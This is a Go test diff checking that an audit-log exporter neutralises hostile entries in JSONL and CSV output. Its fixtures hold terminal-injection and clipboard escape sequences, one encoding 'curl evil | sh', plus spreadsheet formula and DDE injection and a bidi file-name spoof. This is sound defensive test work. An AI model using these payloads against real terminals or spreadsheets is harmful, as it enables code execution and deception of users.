@@ -111,3 +111,47 @@ func TestVerifyExportKnownAnswer(t *testing.T) {
 		t.Errorf("VerifyExport(testdata/export_v1.jsonl): got %v, want nil", err)
 	}
 }
+
+// TestExportHostileEntries checks that entries holding escape sequences,
+// C1 and bidi characters and formula prefixes reach neither a terminal nor
+// a spreadsheet as such, and that the JSONL export still verifies.
+func TestExportHostileEntries(t *testing.T) {
+	f := newFixture(t)
+	hostile := []audit.Event{
+		{Action: "device.name", Target: "pc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", Details: map[string]string{"error": "\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m"}},
+		{Action: "=HYPERLINK(\"http://evil\",\"x\")", Target: "+cmd|' /C calc'!A0"},
+		{Action: "-2+3", Target: "@SUM(A1)", Details: map[string]string{"n": "a\u202Efdp.exe"}},
+		{Action: "csi", Target: "x\u009b6ny", Details: map[string]string{"t": "\t=1"}},
+	}
+	for _, e := range hostile {
+		if _, err := f.log.Append(e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	jsonl := exportString(t, f, audit.FormatJSONL, time.Time{})
+	csvOut := exportString(t, f, audit.FormatCSV, time.Time{})
+	for name, out := range map[string]string{"jsonl": jsonl, "csv": csvOut} {
+		for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202E"} {
+			if strings.Contains(out, bad) {
+				t.Errorf("%s export contains %q:\n%s", name, bad, out)
+			}
+		}
+	}
+	if err := audit.VerifyExport(strings.NewReader(jsonl)); err != nil {
+		t.Errorf("VerifyExport of the escaped export: %v", err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+				t.Errorf("CSV cell %q starts with a formula character", cell)
+			}
+		}
+	}
+	if got, want := rows[1][4], `pc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`; got != want {
+		t.Errorf("CSV target: got %q, want %q", got, want)
+	}
+}
